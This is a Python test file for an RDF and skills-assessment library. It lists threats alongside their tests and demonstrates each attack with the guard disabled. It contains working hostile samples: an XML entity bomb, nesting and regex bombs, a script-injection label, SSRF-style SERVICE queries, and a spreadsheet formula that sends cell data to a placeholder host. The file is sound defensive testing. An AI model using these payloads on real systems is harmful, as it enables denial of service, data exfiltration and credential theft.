"""Every threat has its tests, and is real: with the countermeasure taken away, the attack succeeds.

`COVERED` names, for each threat on record, the tests that fail without its countermeasure. Beside it, each threat is
carried out here, within bounds, where nothing stands in its way: against the library itself, or with our guard
switched off. So a test that is passed by chance, or a library that has learnt better, is noticed.
"""

from __future__ import annotations

import ast
import io
import json
import logging
import subprocess
import sys
import threading
import time
from contextlib import suppress
from datetime import date
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.request import HTTPRedirectHandler, Request, urlopen

import polars as pl
import pyoxigraph as ox
import pytest
import rdflib

import itss_graph as itss
from itss_graph import resources
from itss_graph.errors import EngineError, InputError
from itss_graph.rdf.reading import read

HERE = Path(__file__).parent

COVERED = {
    "reading the web or local files through a query": (
        "rdf/test_store.py::test_service_is_refused_and_calls_nobody",
        "rdf/test_store.py::test_from_fetches_nothing",
        "server/test_fetching.py::test_no_spelling_of_service_calls_anybody",
        "server/test_fetching.py::test_no_update_fetches_anything",
        "server/test_fetching.py::test_parameters_name_stored_graphs_only",
        "server/test_limits.py::test_a_worker_can_open_nothing",
    ),
    "the same through JSON-LD": (
        "rdf/test_contexts.py::test_any_other_context_is_refused_and_not_fetched",
        "rdf/test_contexts.py::test_a_context_behind_escapes_is_not_fetched",
        "server/test_graphs.py::test_a_context_from_the_web_is_not_fetched",
    ),
    "the same through shapes": (
        "test_threats.py::test_shapes_import_nothing",
        "profiles/test_guard.py::test_refused_and_named",
    ),
    "XML bombs, XXE": (
        "rdf/test_reading.py::test_a_doctype_is_refused_before_any_rdf_parser_sees_it",
        "rdf/test_reading.py::test_xml_in_other_encodings_is_refused",
        "server/test_graphs.py::test_bombs_are_a_clean_400",
        "spreadsheets/test_hostile.py::test_refused_in_one_line",
    ),
    "nesting, number and literal bombs": (
        "rdf/test_reading.py::test_deep_json_is_refused",
        "rdf/test_reading.py::test_deep_rdf_xml_is_refused",
        "rdf/test_reading.py::test_long_numbers_stay_what_they_are",
        "server/test_limits.py::test_nesting_is_a_clean_400",
        "server/test_limits.py::test_bodies_are_limited",
    ),
    "runaway queries": (
        "server/test_limits.py::test_too_much_is_refused_and_the_server_goes_on",
        "server/test_limits.py::test_updates_have_limits_too",
        "server/test_turns.py::test_a_client_with_runaway_queries_does_not_starve_the_others",
        "server/test_orphans.py::test_all_processes_are_gone_soon_after_one_is_killed",
    ),
    "regular-expression bombs": (
        "server/test_limits.py::test_regular_expressions_take_no_longer_for_being_nested",
        "server/test_hostile.py::test_reading_takes_time_in_proportion_to_the_length",
        "server/test_hostile.py::test_whoever_lacks_the_token_is_told_so_and_everybody_else_is_answered",
        "shapes/test_style.py::test_nested_quantifiers_are_told_from_harmless_ones",
    ),
    "faking conformance": ("profiles/test_guard.py::test_refused_and_named",),
    "an engine's failure read as an answer": (
        "test_threats.py::test_a_failure_of_the_engine_is_no_verdict",
        "shacl/test_unsupported.py::test_ill_formed",
        "rdf/test_store.py::test_a_failing_evaluation_is_an_engine_error",
    ),
    "stored cross-site scripting": (
        "site/test_pages.py::test_hostile_texts_and_addresses_stay_texts",
        "reports/test_safety.py::test_hostile_words_are_only_words",
        "server/test_privacy.py::test_security_headers_are_everywhere",
        "browser/test_editor.py::test_a_hostile_answer_is_only_text",
    ),
    "cross-site requests": (
        "server/test_privacy.py::test_no_page_elsewhere_writes_with_the_access_of_the_browser",
        "server/test_privacy.py::test_pages_elsewhere_neither_write_nor_read_what_is_private",
        "browser/test_elsewhere.py::test_a_form_of_another_origin_writes_nothing",
    ),
    "credentials leaking": (
        "rdf/test_remote.py::test_a_redirect_is_not_followed",
        "rdf/test_remote.py::test_a_trickled_answer_ends_at_the_deadline",
        "rdf/test_remote.py::test_a_huge_answer_is_cut_off",
        "rdf/test_remote.py::test_another_media_type_is_refused",
        "rdf/test_remote.py::test_a_truncated_answer_is_none",
        "test_threats.py::test_a_password_goes_to_one_server_only",
    ),
    "spreadsheets": (
        "spreadsheets/test_hostile.py::test_a_zip_bomb_is_refused_by_what_it_says_it_is",
        "spreadsheets/test_hostile.py::test_limits",
        "test_threats.py::test_no_cell_is_a_formula",
    ),
    "personal data": (
        "server/test_privacy.py::test_nothing_of_a_career_is_found_anywhere",
        "server/test_privacy.py::test_profiles_are_shown_to_who_has_the_token",
        "server/test_privacy.py::test_a_person_is_erased_by_dropping_the_graph",
        "server/test_privacy.py::test_processes_that_answer_anonymously_have_never_seen_a_profile",
        "server/test_privacy.py::test_no_worker_keeps_a_profile_that_it_judged",
        "server/test_forgetting.py::test_nothing_of_a_profile_can_be_reached_once_it_is_answered",
        "server/test_store_on_disk.py::test_what_was_erased_is_in_no_file_after_the_next_start",
        "server/test_command.py::test_what_it_refuses",
    ),
}


@pytest.mark.parametrize("threat", COVERED)
def test_a_threat_has_its_tests(threat) -> None:
    missing = [test for test in COVERED[threat] if test.partition("::")[2] not in functions(test.partition("::")[0])]
    assert missing == []


def functions(file: str) -> set[str]:
    tree = ast.parse((HERE / file).read_text("utf-8"))
    return {node.name for node in tree.body if isinstance(node, ast.FunctionDef)}


# The attacks, with nothing in their way.


def python(code: str, seconds: float, *arguments: str) -> subprocess.CompletedProcess[str] | None:
    """What becomes of some code in a process of its own; None where it is not done in time."""
    with suppress(subprocess.TimeoutExpired):
        command = [sys.executable, "-c", code, *arguments]
        return subprocess.run(command, capture_output=True, text=True, timeout=seconds, check=False)
    return None


def test_a_query_reads_the_web(listener, monkeypatch) -> None:
    from itss_graph.rdf import store

    url, seen = listener
    monkeypatch.setattr(store, "refuse_service", lambda _text: None)
    with suppress(EngineError):
        store.Store().query(f"SELECT * {{ SERVICE <{url}service> {{ ?s ?p ?o }} }}")
    with suppress(Exception):
        rdflib.Dataset(default_union=True).query(f"SELECT * FROM <{url}from> {{ ?s ?p ?o }}")
    assert {path.partition("?")[0] for path in seen} == {"/service", "/from"}


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_json_ld_reads_the_web(listener) -> None:
    url, seen = listener
    document = json.dumps({"@context": f"{url}context", "@id": "urn:a", "name": "x"})
    with pytest.raises(InputError):
        read(document.encode(), format="json-ld")
    assert seen == []
    with suppress(Exception):
        rdflib.Graph().parse(data=document, format="json-ld")
    assert seen == ["/context"]


def test_shapes_import_nothing(listener, monkeypatch) -> None:
    import pyshacl

    from itss_graph.assessment.engines import PyShacl

    url, seen = listener
    shapes = f"<urn:o> a <http://www.w3.org/2002/07/owl#Ontology> ; <http://www.w3.org/2002/07/owl#imports> <{url}s> ."
    data = read(shapes.encode(), format="turtle")
    engine = PyShacl(shapes.encode())
    engine.report(data)
    assert seen == []
    monkeypatch.setattr(pyshacl, "validate", partial(pyshacl.validate, do_owl_imports=True))
    with suppress(EngineError):
        engine.report(data)
    assert seen != []


def test_xml_explodes(monkeypatch) -> None:
    from itss_graph.rdf import guards

    entities = '<!ENTITY a "xxxxxxxxxx">' + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in ("ab", "bc", "cd")
    )
    bomb = f"""<!DOCTYPE r [{entities}]><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
        xmlns:e="urn:e#"><rdf:Description rdf:about="urn:a"><e:p>&d;</e:p></rdf:Description></rdf:RDF>""".encode()
    with pytest.raises(InputError, match="DOCTYPE"):
        read(bomb, format="rdfxml")
    monkeypatch.setattr(guards, "check_xml", lambda _data: None)
    terms = read(bomb, format="rdfxml").terms
    assert max(terms.str.len_bytes()) > 10_000 > 10 * len(bomb)


NESTED = "import pyoxigraph; pyoxigraph.Store().query('ASK { FILTER(' + '(' * 100_000 + '1' + ')' * 100_000 + ') }')"
RUNAWAY = """
import pyoxigraph as ox
store = ox.Store()
store.extend(ox.Quad(ox.NamedNode(f"urn:{n}"), ox.NamedNode("urn:p"), ox.Literal(n)) for n in range(1000))
print("begun", flush=True)
print(list(store.query("SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }")))
"""
PATTERN = "^(a+)+$"


def test_nesting_crashes_the_process_that_parses() -> None:
    done = python(NESTED, 60)
    assert done is not None
    assert done.returncode < 0


def test_numbers_and_nesting_break_rdflib() -> None:
    number = "9" * 5000
    with pytest.raises(ValueError, match="digits"):
        int(number)
    assert len(read(f"<urn:a> <urn:p> {number} .".encode(), format="turtle").triples) == 1
    with pytest.raises(RecursionError):
        rdflib.Graph().parse(data=f"<urn:a> <urn:p> {'(' * 1000}{')' * 1000} .", format="turtle")
    assert len(read(f"<urn:a> <urn:p> {'(' * 100}{')' * 100} .".encode(), format="turtle").triples) > 100


@pytest.mark.slow
def test_a_query_never_ends() -> None:
    assert python(RUNAWAY, 3) is None


@pytest.mark.slow
def test_a_regular_expression_never_ends() -> None:
    bomb = f"ASK {{ FILTER(REGEX('{'a' * 60}!', '{PATTERN}')) }}"
    assert not ox.Store().query(bomb)
    assert python("import sys, rdflib; rdflib.Graph().query(sys.argv[1])", 3, bomb) is None


TENURE = """
<https://example.org/staff/sota-ueda> itss:tenure
    [ a itss:Tenure ; itss:kpi itsm:OperationsManagement-L4 ; itss:totalDays 99999 ] .
"""


@pytest.mark.slow
def test_a_profile_helps_itself(monkeypatch) -> None:
    """One day is short; with nobody to refuse it, a tenure that the profile states itself makes up for it."""
    from itss_graph.assessment import assessor

    honest = resources.path("data", "examples", "one-day-short.ttl").read_bytes()
    requirement = "OperationsManagement-L4-responsibility"
    (assessed,) = itss.assess(honest, format="turtle", as_of=date(2026, 11, 23))
    assert assessed.outcome(requirement).outcome == "failed"
    with pytest.raises(itss.IllFormedProfile):
        itss.assess(honest + TENURE.encode(), format="turtle")
    monkeypatch.setattr(assessor, "check", lambda *_: ())
    (cheated,) = itss.assess(honest + TENURE.encode(), format="turtle", as_of=date(2026, 11, 23))
    assert cheated.outcome(requirement).outcome == "passed"


BAD_PATTERN = """
@prefix sh: <http://www.w3.org/ns/shacl#> .
<urn:s> a sh:NodeShape ; sh:targetNode <urn:a> ; sh:property [ sh:path <urn:p> ; sh:pattern "(" ] .
"""


def test_a_failure_of_the_engine_is_no_verdict(monkeypatch) -> None:
    """pySHACL says `False` for a failure as it does for a violation; nobody here takes it for one."""
    import pyshacl
    from pyshacl.errors import ValidationFailure

    from itss_graph.assessment.engines import PyShacl

    data = read(b"<urn:a> <urn:p> 'x' .", format="turtle")
    with pytest.raises(EngineError) as error:
        PyShacl(BAD_PATTERN.encode()).report(data)
    assert error.value.exit_code == 3
    played = (False, ValidationFailure("a recursion"), "a recursion")
    monkeypatch.setattr(pyshacl, "validate", lambda *_, **__: played)
    with pytest.raises(EngineError, match="pySHACL failed: a recursion"):
        PyShacl(b"").report(data)
    conforms, *_ = pyshacl.validate(None)
    assert conforms is False, "which reads as a violation"


@pytest.mark.slow
def test_a_page_runs_what_a_label_says(tmp_path, monkeypatch) -> None:
    import jinja2

    from itss_graph.site.knowledge import Knowledge
    from itss_graph.site.pages import Pages

    attack = "<script>alert(1)</script>"
    file = tmp_path / "hostile.ttl"
    text = resources.path("ontology", "itsm.ttl").read_text("utf-8")
    more = f'<https://w3id.org/itss/itsm/ServiceDesk> <http://www.w3.org/2004/02/skos/core#altLabel> "{attack}"@en .'
    file.write_text(f"{text}\n{more}\n", "utf-8")
    assert attack not in Pages.of(Knowledge.load(file)).page("itsm/ServiceDesk")
    environment = jinja2.Environment.__init__
    monkeypatch.setattr(
        jinja2.Environment, "__init__", lambda self, **named: environment(self, **{**named, "autoescape": False})
    )
    assert attack in Pages.of(Knowledge.load(file)).page("itsm/ServiceDesk")


@pytest.fixture
def other():
    """Two servers: one redirects to the other, or trickles, and the other keeps the credentials it is sent."""
    kept: list[str | None] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            if self.path == "/trickle":
                self.send_response(200)
                self.end_headers()
                with suppress(OSError):
                    for _ in range(30):
                        self.wfile.write(b" ")
                        time.sleep(0.05)
                return
            self.send_response(302)
            self.send_header("Location", f"http://127.0.0.1:{other.server_port}/")
            self.end_headers()

        def do_GET(self) -> None:
            kept.append(self.headers.get("Authorization"))
            self.send_error(404)

        def log_message(self, *_: object) -> None:
            pass

    one, other = (ThreadingHTTPServer(("127.0.0.1", 0), Handler) for _ in range(2))
    threads = [threading.Thread(target=each.serve_forever, args=(0.01,), daemon=True) for each in (one, other)]
    for thread in threads:
        thread.start()
    yield f"http://127.0.0.1:{one.server_port}/", kept
    for each, thread in zip((one, other), threads, strict=True):
        each.shutdown()
        each.server_close()
        thread.join()


def test_a_password_goes_to_one_server_only(other, monkeypatch) -> None:
    from itss_graph.rdf import transport
    from itss_graph.rdf.endpoint import Endpoint
    from itss_graph.rdf.transport import Credentials

    url, kept = other
    endpoint = Endpoint(url, credentials=Credentials("alice", "secret"), seconds=10)
    with pytest.raises(EngineError, match="redirects to") as error:
        endpoint.query("ASK {}")
    assert "secret" not in str(error.value)
    assert kept == []
    monkeypatch.setattr(transport, "_NoRedirect", HTTPRedirectHandler)
    with pytest.raises(EngineError, match="answers 404"):
        endpoint.query("ASK {}")
    assert kept == ["Basic YWxpY2U6c2VjcmV0"], "the library forwards it"


@pytest.mark.slow
def test_a_trickled_answer_outlives_a_timeout(other) -> None:
    url, _ = other
    begin = time.monotonic()
    with urlopen(Request(f"{url}trickle", data=b"x"), timeout=0.3) as response:
        response.read()
    assert time.monotonic() - begin > 1


def test_no_cell_is_a_formula(monkeypatch) -> None:
    from itss_graph.presentation.formulas import guarded, without_formulas

    attack = '=HYPERLINK("http://192.0.2.1/?"&A1)'
    runs = [attack, "+1", "-1", "@x", "\tx", "\rx", "＝1", "＋1", "－1", "＠x", "'=1"]
    table = pl.DataFrame({"x": [*runs, "plain", "'plain", "1=1"]})
    harmless = without_formulas(table)["x"].to_list()
    assert harmless == [*(f"'{text}" for text in runs), "plain", "'plain", "1=1"] == list(map(guarded, table["x"]))
    buffer = io.StringIO()
    table.write_csv(buffer)
    assert "\n+1\n" in buffer.getvalue(), "as it is without"


def test_a_log_tells_a_value(caplog) -> None:
    """rdflib logs a literal that is none; what reads profiles here logs nothing."""
    attack = b'<urn:a> <urn:p> "canary"^^<http://www.w3.org/2001/XMLSchema#integer> .'
    with caplog.at_level(logging.DEBUG):
        read(attack, format="turtle")
        assert "canary" not in caplog.text
        _ = rdflib.Graph().parse(data=attack.decode(), format="turtle")
    assert "canary" in caplog.text


def test_a_log_line_quotes_an_exception() -> None:
    from itss_graph.server.middleware.telemetry import JsonFormatter

    try:
        int("canary")
    except ValueError:
        record = logging.LogRecord("x", logging.ERROR, "x.py", 1, "canary", None, sys.exc_info())
    assert "canary" in logging.Formatter().format(record)
    assert "canary" not in JsonFormatter().format(record)
